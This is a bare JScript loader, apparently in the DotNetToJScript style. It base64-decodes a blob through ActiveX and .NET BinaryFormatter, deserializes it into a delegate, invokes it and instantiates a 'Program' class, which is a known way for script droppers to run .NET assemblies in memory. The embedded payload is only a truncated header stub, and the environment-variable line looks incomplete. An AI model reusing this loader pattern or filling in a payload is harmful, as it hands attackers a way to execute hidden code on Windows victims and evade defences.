function decode(text) {
  var encoding = new ActiveXObject("System.Text.ASCIIEncoding"), length = encoding.GetByteCount_2(text), bytes = encoding.GetBytes_4(text);
  var transform = new ActiveXObject("System.Security.Cryptography.FromBase64Transform");
  bytes = transform.TransformFinalBlock(bytes, 0, length);
  var memory = new ActiveXObject("System.IO.MemoryStream");
  memory.Write(bytes, 0, length / 4 * 3);
  memory.Position = 0;
  return memory;
}
new ActiveXObject("WScript.Shell").Environment("Process")("COMPLUS_Version") ;
var formatter = new ActiveXObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter");
var list = new ActiveXObject("System.Collections.ArrayList");
var delegate = formatter.Deserialize_2(decode("AAEAAAD/////AQAAAAAAAAAEAQAAACJTeXN0ZW0uRGVsZWdhdGU="));
list.Add(undefined);
delegate.DynamicInvoke(list.ToArray()).CreateInstance("Program");
